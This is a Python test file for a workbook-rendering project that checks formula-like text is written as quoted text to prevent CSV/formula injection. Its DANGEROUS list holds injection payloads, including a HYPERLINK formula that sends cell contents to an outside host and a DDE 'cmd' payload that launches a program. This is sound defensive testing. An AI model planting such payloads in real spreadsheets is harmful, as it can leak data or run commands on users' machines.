"""Every cell luoshi writes in a workbook keeps a text that starts like a formula as text (CSV/formula injection)."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from luoshi.intake.unit_tasks import unit_tasks
from luoshi.render.layout import Column, SectionRow, TableLayout
from luoshi.render.template import unit_template_xlsx
from luoshi.render.xlsx import tables_xlsx
from tests.core.test_render_template import seed_plan

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(data: bytes) -> list[str]:
    """Cells stored as formulas, read from the package itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_units_template_writes_a_formula_like_task_text_as_quoted_text(text: str) -> None:
    plan = seed_plan("000")
    tasks = [replace(t, text=text) for t in unit_tasks(plan, "科技局", parts=[0])[:2]]
    data = unit_template_xlsx(text, tasks, period="2021年全年", plan_sha256=plan.source.sha256)
    assert _formulas(data) == []
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(text[:1])]
    assert cells, "the text was written"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize("text", DANGEROUS)
def test_tables_write_a_formula_like_cell_title_section_and_note_as_quoted_text(text: str) -> None:
    layout = TableLayout(
        title=text,
        columns=(Column("序号", 1, "center"), Column("目标任务", 4)),
        rows=(SectionRow(text, 1), ("1", text), ("2", "正常的文字")),
        note=text,
    )
    data = tables_xlsx([layout])
    assert _formulas(data) == []
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    risky = [c for row in ws.iter_rows() for c in row if c.value == text.replace("\r", "")]
    risky += [c for row in ws.iter_rows() for c in row if c.value == text]
    assert risky and all(c.quotePrefix for c in risky)
    plain = [c for row in ws.iter_rows() for c in row if c.value == "正常的文字"]
    assert plain and not any(c.quotePrefix for c in plain)
